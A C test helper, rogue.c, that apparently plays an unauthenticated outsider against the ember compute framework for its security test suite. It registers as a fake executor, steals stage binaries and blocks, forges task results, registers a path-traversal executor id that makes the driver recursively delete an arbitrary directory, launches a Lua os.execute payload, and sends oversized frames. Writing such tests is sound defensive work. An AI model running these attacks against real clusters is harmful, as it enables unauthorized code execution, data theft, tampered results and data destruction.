/*
 * rogue.c -- an outsider that speaks ember's wire format (core/rpc/msg.h)
 * to a driver's or an executor's socket, one attack per sub-command, for
 * tests/integration/security.t.
 *
 * It holds no keys: every connection is a plain ZeroMQ DEALER, as any
 * process on the machine could open.  Each attack waits a bounded time (-t,
 * default 3 s), prints one line saying what happened, and exits 0 if the
 * attack succeeded, 1 if it was refused or got no answer, 2 on a usage
 * error.  A connection the server refuses at the ZeroMQ handshake (a CURVE
 * server meeting a NULL client, or a ZAP refusal) is seen on a monitor
 * socket and reported as "refused" at once, so a refused attack does not
 * wait for its timeout.
 *
 * The attacks (ENDPOINT is tcp://HOST:PORT):
 *   register ENDPOINT           register as an executor; success = any
 *                               REGISTERED reply.  The first attempt claims
 *                               no plugins; the driver's refusal lists the
 *                               ones it wants, and the second claims them.
 *   launch-receiver ENDPOINT    register with 64 cores, keep heartbeating for
 *                               -t seconds, never answer a task; success = a
 *                               LAUNCH arrived (its stage binary, or the
 *                               broadcast holding it, is fetched and searched
 *                               for -s SECRET).  This is also the silent
 *                               executor that stalls jobs.
 *   forge ENDPOINT [VALUE]      register with 64 cores and, for -t seconds,
 *                               answer every result task FINISHED with the
 *                               Lua value VALUE (default 1000000) encoded
 *                               as a real result block; map tasks are left
 *                               unanswered.  Success = a forged answer sent.
 *   evil-id ENDPOINT DIR LOCALDIR
 *                               register with the executor id
 *                               "x/../..(/..)*DIR": the driver of today joins
 *                               it into LOCALDIR/ember-APP-exec-ID and
 *                               removes that recursively at session end.
 *                               The rogue creates LOCALDIR/ember-APP-exec-x
 *                               (APP read off the executors' directories in
 *                               LOCALDIR), as anyone sharing /tmp could, so
 *                               that the ".." resolve.  Success = registered.
 *   fetch-shuffle ENDPOINT [SHUFFLE MAP [REDUCE]]
 *   fetch-result ENDPOINT [TID]
 *   fetch-bcast ENDPOINT [ID]   FETCH from a block server (an executor's, or
 *                               the driver's for broadcasts); without ids a
 *                               small range is tried.  Success = a block.
 *   launch ENDPOINT             send a LAUNCH to a listening socket; success
 *                               = a STATUS comes back (the task ran).
 *   bigframe ENDPOINT N         send one N-MiB frame, then a REGISTER;
 *                               success = the REGISTER is answered, i.e. the
 *                               server read the whole frame.
 *
 * Global state: the zmq context and the options, set once in main.
 */
#include "codec/blockcodec.h"
#include "rpc/msg.h"
#include "serialize.h"
#include "util/buf.h"

#include <dirent.h>
#include <errno.h>
#include <lauxlib.h>
#include <limits.h>
#include <lua.h>
#include <lualib.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#include <zmq.h>

static void *zctx;
static int64_t wait_ms = 3000;
static const char *secret;
static const char *attack = "?";
static const char *target = "?";

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* The one line of output; returns the exit status. */
static int report(int rc, const char *fmt, ...)
{
    va_list ap;
    printf("rogue %s %s: %s: ", attack, target,
           rc == 0 ? "SUCCEEDED" : "refused");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
    return rc;
}

static int contains(const void *hay, size_t n, const char *needle)
{
    size_t k = needle ? strlen(needle) : 0;
    return k > 0 && memmem(hay, n, needle, k) != NULL;
}

/* ------------------------------------------------------------ connection */

typedef struct conn {
    void *sock;
    void *mon;
    char refused[128]; /* why the handshake failed, "" while it has not */
} conn;

static int conn_open(conn *c, const char *endpoint)
{
    static int nmon;
    char monep[64];
    int zero = 0;
    memset(c, 0, sizeof *c);
    snprintf(monep, sizeof monep, "inproc://rogue-monitor-%d", nmon++);
    c->sock = zmq_socket(zctx, ZMQ_DEALER);
    if (!c->sock ||
        zmq_setsockopt(c->sock, ZMQ_LINGER, &zero, sizeof zero) != 0 ||
        zmq_socket_monitor(c->sock, monep,
                           ZMQ_EVENT_HANDSHAKE_FAILED_NO_DETAIL |
                               ZMQ_EVENT_HANDSHAKE_FAILED_PROTOCOL |
                               ZMQ_EVENT_HANDSHAKE_FAILED_AUTH) != 0 ||
        !(c->mon = zmq_socket(zctx, ZMQ_PAIR)) ||
        zmq_setsockopt(c->mon, ZMQ_LINGER, &zero, sizeof zero) != 0 ||
        zmq_connect(c->mon, monep) != 0 ||
        zmq_connect(c->sock, endpoint) != 0) {
        fprintf(stderr, "rogue: cannot connect to %s: %s\n", endpoint,
                zmq_strerror(errno));
        return -1;
    }
    return 0;
}

static void conn_close(conn *c)
{
    if (c->sock)
        zmq_close(c->sock);
    if (c->mon)
        zmq_close(c->mon);
    memset(c, 0, sizeof *c);
}

static void read_monitor(conn *c)
{
    zmq_msg_t ev;
    zmq_msg_init(&ev);
    while (zmq_msg_recv(&ev, c->mon, ZMQ_DONTWAIT) >= 0) {
        int more = zmq_msg_more(&ev);
        if (zmq_msg_size(&ev) >= 6) {
            const uint8_t *p = zmq_msg_data(&ev);
            uint16_t event = (uint16_t)(p[0] | p[1] << 8);
            uint32_t value = (uint32_t)p[2] | (uint32_t)p[3] << 8 |
                             (uint32_t)p[4] << 16 | (uint32_t)p[5] << 24;
            snprintf(c->refused, sizeof c->refused,
                     "the server refused the handshake (%s, code 0x%x)",
                     event == ZMQ_EVENT_HANDSHAKE_FAILED_AUTH ? "auth"
                     : event == ZMQ_EVENT_HANDSHAKE_FAILED_PROTOCOL
                         ? "protocol"
                         : "no detail",
                     value);
        }
        /* the second frame of an event is the endpoint */
        while (more && zmq_msg_recv(&ev, c->mon, ZMQ_DONTWAIT) >= 0)
            more = zmq_msg_more(&ev);
    }
    zmq_msg_close(&ev);
}

/* Never blocks: a DEALER whose connection was refused has no pipe, and a
 * blocking send would wait for one forever; the message is dropped then. */
static void conn_send(conn *c, const void *data, size_t len)
{
    while (zmq_send(c->sock, data, len, ZMQ_DONTWAIT) < 0 && errno == EINTR)
        ;
}

static void send_buf(conn *c, buf *b)
{
    if (!b->oom)
        conn_send(c, b->data, b->len);
    buf_free(b);
}

/* Wait until deadline for one message (into m, which the caller closes).
 * Returns 1 with a message, 0 on timeout, -1 once the handshake was refused
 * and stop_if_refused is set. */
static int conn_recv(conn *c, zmq_msg_t *m, int64_t deadline,
                     int stop_if_refused)
{
    for (;;) {
        zmq_pollitem_t it[2] = {{.socket = c->sock, .events = ZMQ_POLLIN},
                                {.socket = c->mon, .events = ZMQ_POLLIN}};
        int64_t left = deadline - now_ms();
        read_monitor(c);
        if (stop_if_refused && c->refused[0])
            return -1;
        if (left <= 0)
            return 0;
        if (zmq_poll(it, 2, (long)(left > 200 ? 200 : left)) < 0 &&
            errno != EINTR)
            return 0;
        if (it[0].revents & ZMQ_POLLIN) {
            zmq_msg_init(m);
            if (zmq_msg_recv(m, c->sock, ZMQ_DONTWAIT) >= 0)
                return 1;
            zmq_msg_close(m);
        }
    }
}

static int msg_type_of(zmq_msg_t *m)
{
    return msg_peek_type(zmq_msg_data(m), zmq_msg_size(m), NULL);
}

/* "refused ..." or "no answer ..." for an attack that got nothing. */
static int nothing(conn *c, const char *what)
{
    read_monitor(c);
    if (c->refused[0])
        return report(1, "%s: %s", what, c->refused);
    return report(1, "%s: no answer within %lld ms", what, (long long)wait_ms);
}

/* ----------------------------------------------------------- registering */

typedef struct reg {
    char id[2048];
    int ok;       /* registered */
    int answered; /* any REGISTERED reply came */
    char plugins[2048];
    char first_refusal[2048]; /* the first REGISTERED ok=0 message */
    char refusal[2048];       /* the last one */
    int64_t hb_ms;
    char block_ep[256];
} reg;

static void send_register(conn *c, const char *id, int cores,
                          const char *plugins)
{
    msg_register m = {0};
    buf b;
    buf_init(&b);
    m.exec_id = (char *)id;
    m.host = "127.0.0.1";
    m.pid = getpid();
    m.cores = cores;
    m.memory_mb = 512;
    m.data_endpoint = "tcp://127.0.0.1:9";
    m.plugins = (char *)plugins;
    msg_register_encode(&b, &m);
    send_buf(c, &b);
}

/* Register as executor r->id with the given cores; with learn, claim the
 * plugins the driver's refusal of a first attempt lists, else stop at that
 * refusal.  Gives up at deadline (or at a refused handshake unless
 * persistent).  Fills r. */
static void do_register(conn *c, reg *r, int cores, int64_t deadline,
                        int persistent, int learn)
{
    int64_t resend = 0;
    int attempts = 0;
    while (!r->ok && now_ms() < deadline) {
        zmq_msg_t m;
        int got;
        if (now_ms() >= resend && attempts < 2) {
            /* after a refused handshake nothing was delivered: a persistent
               attacker keeps asking (zmq reconnects by itself) */
            send_register(c, r->id, cores, r->plugins);
            resend = now_ms() + 1000;
            if (!persistent)
                attempts++;
        }
        /* wake for the next resend, if there is one */
        got = conn_recv(c, &m,
                        attempts < 2 && resend < deadline ? resend : deadline,
                        !persistent);
        if (got < 0)
            return;
        if (got == 0)
            continue;
        if (msg_type_of(&m) == MSG_REGISTERED) {
            msg_registered rr;
            if (msg_registered_decode(zmq_msg_data(&m), zmq_msg_size(&m), &rr,
                                      NULL) == 0) {
                r->answered = 1;
                r->ok = rr.ok;
                r->hb_ms = rr.heartbeat_ms > 0 ? rr.heartbeat_ms : 1000;
                snprintf(r->block_ep, sizeof r->block_ep, "%s",
                         rr.block_endpoint ? rr.block_endpoint : "");
                if (!rr.ok && rr.message) {
                    const char *p = strstr(rr.message, "but the driver has [");
                    snprintf(r->refusal, sizeof r->refusal, "%s", rr.message);
                    if (!r->first_refusal[0])
                        snprintf(r->first_refusal, sizeof r->first_refusal,
                                 "%s", rr.message);
                    if (learn && p && !r->plugins[0]) {
                        /* the refusal told us what to claim: ask again */
                        p += strlen("but the driver has [");
                        snprintf(r->plugins, sizeof r->plugins, "%.*s",
                                 (int)(strlen(p) > 0 ? strlen(p) - 1 : 0), p);
                        resend = 0;
                        attempts = 1;
                    } else {
                        msg_registered_free(&rr);
                        zmq_msg_close(&m);
                        return;
                    }
                }
                msg_registered_free(&rr);
            }
        }
        zmq_msg_close(&m);
    }
}

static void send_heartbeat(conn *c, const char *id, uint64_t seq)
{
    msg_heartbeat hb = {0};
    buf b;
    buf_init(&b);
    hb.exec_id = (char *)id;
    hb.seq = seq;
    msg_heartbeat_encode(&b, &hb);
    send_buf(c, &b);
}

static int cmd_register(const char *ep)
{
    conn c;
    reg r = {0};
    if (conn_open(&c, ep))
        return 1;
    snprintf(r.id, sizeof r.id, "rogue-%d", (int)getpid());
    do_register(&c, &r, 1, now_ms() + wait_ms, 0, 1);
    if (!r.answered)
        return nothing(&c, "register");
    conn_close(&c);
    if (r.ok)
        return report(0,
                      "registered as executor %s (the driver's first "
                      "refusal named the plugins to claim: %.200s)",
                      r.id, r.first_refusal);
    return report(0, "the driver answered an outsider: %.300s",
                  r.first_refusal);
}

/* ------------------------------------------------ receiving tasks, forging */

/* Fetch broadcast id from the driver's block server (stage binaries above
 * task.binaryBroadcastThreshold travel that way); decoded bytes into out. */
static int fetch_block(const char *ep, int shuffle, uint64_t id, int reduce,
                       buf *out, char *why, size_t nwhy);

static int cmd_hold(const char *ep, int forge, const char *value)
{
    conn c;
    reg r = {0};
    int64_t end = now_ms() + wait_ms, next_hb;
    uint64_t seq = 0;
    int ntasks = 0, nforged = 0, nmap = 0, found = 0;
    long long first_tid = -1;
    char first_how[300] = "";
    size_t raw_size = 0;
    buf forged;
    buf_init(&forged);
    if (forge) {
        /* a result block, as lua/task_runtime.c makes one: the encoded Lua
           value (lua/serialize.c) in one blockcodec frame */
        lua_State *L = luaL_newstate();
        buf raw;
        ember_error err = {0, ""};
        int bad;
        buf_init(&raw);
        if (!L)
            return 2;
        luaL_openlibs(L);
        lua_pushfstring(L, "return %s", value);
        bad = luaL_loadstring(L, lua_tostring(L, -1)) != LUA_OK ||
              lua_pcall(L, 0, 1, 0) != LUA_OK ||
              ser_encode(L, -1, &raw, &err) != 0 ||
              blockcodec_encode(&forged, raw.data, raw.len, 1) != 0;
        if (bad)
            fprintf(stderr, "rogue: cannot encode the value '%s': %s\n", value,
                    err.msg[0] ? err.msg : lua_tostring(L, -1));
        raw_size = raw.len;
        buf_free(&raw);
        lua_close(L);
        if (bad) {
            buf_free(&forged);
            return 2;
        }
    }
    if (conn_open(&c, ep))
        return 1;
    snprintf(r.id, sizeof r.id, "rogue-%d", (int)getpid());
    /* persistent: keeps asking for the whole hold time */
    do_register(&c, &r, 64, end, 1, 1);
    if (!r.ok) {
        buf_free(&forged);
        if (r.answered)
            return report(1, "not admitted: %.300s", r.refusal);
        return nothing(&c, forge ? "forge" : "launch-receiver");
    }
    next_hb = 0;
    while (now_ms() < end) {
        zmq_msg_t m;
        int64_t until = next_hb < end ? next_hb : end;
        if (now_ms() >= next_hb) {
            /* alive: the driver keeps us, and the tasks it gave us */
            send_heartbeat(&c, r.id, ++seq);
            next_hb = now_ms() + r.hb_ms;
            continue;
        }
        if (conn_recv(&c, &m, until, 0) != 1)
            continue;
        if (msg_type_of(&m) == MSG_LAUNCH) {
            msg_launch l;
            if (msg_launch_decode(zmq_msg_data(&m), zmq_msg_size(&m), &l,
                                  NULL) == 0) {
                ntasks++;
                if (first_tid < 0) {
                    first_tid = (long long)l.task_id;
                    if (l.stage_bin) {
                        found = contains(l.stage_bin, l.stage_len, secret);
                        snprintf(first_how, sizeof first_how,
                                 "its %zu-byte stage binary came with it",
                                 l.stage_len);
                    } else if (l.stage_bcast) {
                        buf bin;
                        char why[256] = "";
                        buf_init(&bin);
                        if (fetch_block(r.block_ep, MSG_FETCH_BCAST,
                                        l.stage_bcast, 0, &bin, why,
                                        sizeof why) == 0) {
                            found = contains(bin.data, bin.len, secret);
                            snprintf(first_how, sizeof first_how,
                                     "its %zu-byte stage binary fetched from "
                                     "broadcast %llu",
                                     bin.len,
                                     (unsigned long long)l.stage_bcast);
                        } else {
                            snprintf(first_how, sizeof first_how,
                                     "its stage binary is broadcast %llu "
                                     "(fetch failed: %s)",
                                     (unsigned long long)l.stage_bcast, why);
                        }
                        buf_free(&bin);
                    }
                }
                if (forge && l.kind == TASK_RESULT) {
                    msg_status s = {0};
                    buf b;
                    buf_init(&b);
                    s.task_id = l.task_id;
                    s.state = TASK_FINISHED;
                    s.result = forged.data;
                    s.result_len = forged.len;
                    s.result_raw_size = raw_size;
                    s.run_us = 1000;
                    msg_status_encode(&b, &s);
                    send_buf(&c, &b);
                    nforged++;
                } else if (l.kind == TASK_SHUFFLE_MAP) {
                    nmap++;
                }
                msg_launch_free(&l);
            }
        }
        zmq_msg_close(&m);
    }
    conn_close(&c);
    buf_free(&forged);
    if (forge) {
        if (nforged == 0)
            return report(1,
                          "registered as %s with 64 cores, but no result "
                          "task came in %lld ms",
                          r.id, (long long)wait_ms);
        return report(0,
                      "registered as %s with 64 cores and answered %d "
                      "result task(s) with the forged value %s (%d map "
                      "task(s) left unanswered)",
                      r.id, nforged, value, nmap);
    }
    if (ntasks == 0)
        return report(1,
                      "registered as %s with 64 cores, but no task came "
                      "in %lld ms",
                      r.id, (long long)wait_ms);
    return report(0,
                  "registered as %s with 64 cores and received %d task(s), "
                  "none answered, heartbeating for %lld ms; task %lld: "
                  "%s%s",
                  r.id, ntasks, (long long)wait_ms, first_tid, first_how,
                  !secret ? ""
                  : found ? ", and it contains the secret verbatim"
                          : ", without the secret");
}

/* ----------------------------------------------------------------- evil id */

static int cmd_evil_id(const char *ep, const char *dir, const char *localdir)
{
    conn c;
    reg r = {0};
    char real[PATH_MAX], prefix[PATH_MAX + 64], app[128] = "";
    char id[1024];
    size_t n = 0;
    int depth = 0;
    DIR *d;
    struct dirent *e;
    if (dir[0] != '/' || !realpath(localdir, real)) {
        fprintf(stderr, "rogue: evil-id needs an absolute DIR and an existing "
                        "LOCALDIR\n");
        return 2;
    }
    /* the application id, from the executors' directories there */
    if ((d = opendir(real)) != NULL) {
        while ((e = readdir(d)) != NULL) {
            const char *x = strstr(e->d_name, "-exec-");
            if (!strncmp(e->d_name, "ember-", 6) && x &&
                x - e->d_name - 6 < (long)sizeof app) {
                snprintf(app, sizeof app, "%.*s", (int)(x - e->d_name - 6),
                         e->d_name + 6);
                break;
            }
        }
        closedir(d);
    }
    /* the directory the ".." start from, made as any local user could
       (without the application id the id is sent all the same: the
       driver must refuse it for what it is) */
    snprintf(prefix, sizeof prefix, "%s/ember-%s-exec-x", real, app);
    if (app[0] && mkdir(prefix, 0700) != 0 && errno != EEXIST)
        return report(1, "cannot create %s: %s", prefix, strerror(errno));
    /* x/.. is LOCALDIR, then one .. per component of it reaches / */
    for (const char *p = real; *p; p++)
        depth += *p == '/';
    n = (size_t)snprintf(id, sizeof id, "x/..");
    for (int i = 0; i < depth && n < sizeof id; i++)
        n += (size_t)snprintf(id + n, sizeof id - n, "/..");
    if (n < sizeof id)
        snprintf(id + n, sizeof id - n, "%s", dir);
    if (conn_open(&c, ep))
        return 1;
    snprintf(r.id, sizeof r.id, "%s", id);
    do_register(&c, &r, 1, now_ms() + wait_ms, 0, 1);
    if (!r.ok) {
        if (r.answered)
            return report(1, "executor id '%s' not admitted: %.300s", id,
                          r.refusal);
        return nothing(&c, "register with a path for an id");
    }
    conn_close(&c);
    return report(0,
                  "registered as executor '%s': the driver removes "
                  "%s/ember-%s-exec-%s, which is %s, when the session ends",
                  id, real, app[0] ? app : "APP", id, dir);
}

/* ---------------------------------------------------------------- fetching */

/* One FETCH on a fresh connection; 0 with the block's decoded bytes in out,
 * 1 with why (refused, no answer, or the server's error). */
static int fetch_block(const char *ep, int shuffle, uint64_t id, int reduce,
                       buf *out, char *why, size_t nwhy)
{
    conn c;
    msg_fetch f = {shuffle, id, reduce};
    buf b;
    zmq_msg_t m;
    int got, rc = 1;
    if (!ep || !*ep || conn_open(&c, ep)) {
        snprintf(why, nwhy, "cannot connect to '%s'", ep ? ep : "");
        return 1;
    }
    buf_init(&b);
    msg_fetch_encode(&b, &f);
    send_buf(&c, &b);
    got = conn_recv(&c, &m, now_ms() + wait_ms, 1);
    if (got < 0) {
        snprintf(why, nwhy, "%s", c.refused);
    } else if (got == 0) {
        snprintf(why, nwhy, "no answer within %lld ms", (long long)wait_ms);
    } else {
        msg_block blk;
        ember_error err = {0, ""};
        if (msg_block_decode(zmq_msg_data(&m), zmq_msg_size(&m), &blk, &err) !=
            0) {
            snprintf(why, nwhy, "an answer that is not a block: %s", err.msg);
        } else if (blk.status != 0) {
            snprintf(why, nwhy, "the server said: %s", blk.message);
        } else if (blockcodec_decode_all(blk.data, blk.len, out, &err) != 0) {
            /* not frames: keep the bytes as they came */
            buf_put(out, blk.data, blk.len);
            rc = 0;
        } else {
            rc = 0;
        }
        msg_block_free(&blk);
        zmq_msg_close(&m);
    }
    conn_close(&c);
    return rc;
}

static int cmd_fetch(const char *ep, int kind, int argc, char **argv)
{
    /* which blocks to ask for: given, or a small range of guesses */
    int shuffles[2] = {0, 3}, reduces[2] = {0, 1};
    uint64_t ids[2] = {kind == MSG_FETCH_BCAST ? 1 : 0,
                       kind == MSG_FETCH_BCAST ? 8 : 63};
    char why[512] = "nothing tried";
    int tries = 0;
    if (kind == 0 && argc >= 2) {
        shuffles[0] = shuffles[1] = atoi(argv[0]);
        ids[0] = ids[1] = strtoull(argv[1], NULL, 10);
        reduces[0] = reduces[1] = argc >= 3 ? atoi(argv[2]) : 0;
    } else if (kind != 0 && argc >= 1) {
        ids[0] = ids[1] = strtoull(argv[0], NULL, 10);
    }
    if (kind != 0)
        shuffles[0] = shuffles[1] = kind, reduces[1] = 0;
    for (int s = shuffles[0]; s <= shuffles[1]; s++)
        for (uint64_t i = ids[0]; i <= ids[1]; i++)
            for (int p = reduces[0]; p <= reduces[1]; p++) {
                buf out;
                int rc;
                buf_init(&out);
                rc = fetch_block(ep, s, i, p, &out, why, sizeof why);
                tries++;
                if (rc == 0) {
                    int found = contains(out.data, out.len, secret);
                    size_t len = out.len;
                    buf_free(&out);
                    if (kind == MSG_FETCH_RESULT)
                        return report(0,
                                      "got the result of task %llu "
                                      "(%zu bytes)%s",
                                      (unsigned long long)i, len,
                                      found ? ", with the secret" : "");
                    if (kind == MSG_FETCH_BCAST)
                        return report(0, "got broadcast %llu (%zu bytes)%s",
                                      (unsigned long long)i, len,
                                      found ? ", with the secret verbatim"
                                            : "");
                    return report(0,
                                  "got shuffle %d map %llu reduce %d "
                                  "(%zu bytes)",
                                  s, (unsigned long long)i, p, len);
                }
                buf_free(&out);
                /* a refused or silent server will not answer a later id */
                if (strstr(why, "refused") || strstr(why, "no answer"))
                    return report(1, "%s", why);
            }
    return report(1, "%d request(s), none served; last: %s", tries, why);
}

/* ------------------------------------------------------------------ launch */

static int cmd_launch(const char *ep)
{
    static const char bin[] = "return os.execute('touch /tmp/rogue-was-here')";
    conn c;
    msg_launch l = {0};
    buf b;
    zmq_msg_t m;
    int got, type, rc;
    if (conn_open(&c, ep))
        return 1;
    l.task_id = 4242;
    l.kind = TASK_RESULT;
    l.stage_bin = (uint8_t *)bin;
    l.stage_len = sizeof bin - 1;
    buf_init(&b);
    msg_launch_encode(&b, &l);
    send_buf(&c, &b);
    got = conn_recv(&c, &m, now_ms() + wait_ms, 1);
    if (got <= 0)
        return nothing(&c, "launch");
    type = msg_type_of(&m);
    if (type == MSG_STATUS) {
        rc = report(0, "the socket took the task and answered a status");
    } else if (type == MSG_BLOCK) {
        msg_block blk;
        if (msg_block_decode(zmq_msg_data(&m), zmq_msg_size(&m), &blk, NULL) ==
            0) {
            rc = report(1, "a block server, not a task queue: %s", blk.message);
            msg_block_free(&blk);
        } else {
            rc = report(1, "a block server answered");
        }
    } else {
        rc = report(1, "answered with a %s message", msg_type_name(type));
    }
    zmq_msg_close(&m);
    conn_close(&c);
    return rc;
}

/* ---------------------------------------------------------------- bigframe */

static void free_big(void *data, void *hint)
{
    (void)hint;
    free(data);
}

static int cmd_bigframe(const char *ep, long mib)
{
    conn c;
    reg r = {0};
    size_t len = (size_t)mib << 20;
    /* calloc: untouched zero pages, so the rogue itself stays small */
    uint8_t *p = calloc(1, len);
    zmq_msg_t big;
    if (!p)
        return report(1, "cannot allocate %ld MiB", mib);
    /* a heartbeat header, then zeros: the whole frame must be read before
       anything can tell it is garbage */
    p[0] = 'E';
    p[1] = 'M';
    p[2] = MSG_VERSION;
    p[3] = MSG_HEARTBEAT;
    if (conn_open(&c, ep) ||
        zmq_msg_init_data(&big, p, len, free_big, NULL) != 0)
        return 1;
    {
        int sent;
        while ((sent = zmq_msg_send(&big, c.sock, ZMQ_DONTWAIT)) < 0 &&
               errno == EINTR)
            ;
        if (sent < 0)
            zmq_msg_close(&big); /* not taken: no connection to queue on */
    }
    /* the frame must have been read whole before this is answered; a big
       frame takes a while on a loaded machine: at least 15 s */
    if (wait_ms < 15000)
        wait_ms = 15000;
    /* a probe that claims no plugins: refused, but answered, and it
       leaves no executor behind */
    snprintf(r.id, sizeof r.id, "rogue-%d", (int)getpid());
    do_register(&c, &r, 1, now_ms() + wait_ms, 0, 0);
    if (!r.answered)
        return nothing(&c, "a REGISTER after the big frame");
    conn_close(&c);
    return report(0,
                  "the server read the whole %ld-MiB frame (it answered "
                  "the REGISTER sent after it)",
                  mib);
}

/* -------------------------------------------------------------------- main */

static int usage(void)
{
    fprintf(stderr,
            "usage: rogue [-t SECONDS] [-s SECRET] ATTACK ENDPOINT [ARGS]\n"
            "attacks: register, launch-receiver, forge [VALUE],\n"
            "         evil-id DIR LOCALDIR, fetch-shuffle [SHUFFLE MAP "
            "[REDUCE]],\n"
            "         fetch-result [TID], fetch-bcast [ID], launch, "
            "bigframe MIB\n"
            "exit: 0 the attack succeeded, 1 refused or no answer, 2 usage\n");
    return 2;
}

int main(int argc, char **argv)
{
    int opt, rc;
    while ((opt = getopt(argc, argv, "+t:s:")) != -1) {
        if (opt == 't' && atof(optarg) > 0)
            wait_ms = (int64_t)(atof(optarg) * 1000);
        else if (opt == 's')
            secret = optarg;
        else
            return usage();
    }
    argc -= optind;
    argv += optind;
    if (argc < 2 || strncmp(argv[1], "tcp://", 6) != 0)
        return usage();
    attack = argv[0];
    target = argv[1];
    zctx = zmq_ctx_new();
    if (!zctx)
        return 1;
    if (!strcmp(attack, "register"))
        rc = cmd_register(target);
    else if (!strcmp(attack, "launch-receiver"))
        rc = cmd_hold(target, 0, NULL);
    else if (!strcmp(attack, "forge"))
        rc = cmd_hold(target, 1, argc > 2 ? argv[2] : "1000000");
    else if (!strcmp(attack, "evil-id") && argc >= 4)
        rc = cmd_evil_id(target, argv[2], argv[3]);
    else if (!strcmp(attack, "fetch-shuffle"))
        rc = cmd_fetch(target, 0, argc - 2, argv + 2);
    else if (!strcmp(attack, "fetch-result"))
        rc = cmd_fetch(target, MSG_FETCH_RESULT, argc - 2, argv + 2);
    else if (!strcmp(attack, "fetch-bcast"))
        rc = cmd_fetch(target, MSG_FETCH_BCAST, argc - 2, argv + 2);
    else if (!strcmp(attack, "launch"))
        rc = cmd_launch(target);
    else if (!strcmp(attack, "bigframe") && argc >= 3 && atol(argv[2]) > 0)
        rc = cmd_bigframe(target, atol(argv[2]));
    else
        rc = usage();
    /* sockets may still be open on early returns: LINGER 0, so terminating
       the context cannot hang, but skip it and just leave */
    fflush(stdout);
    _exit(rc);
}
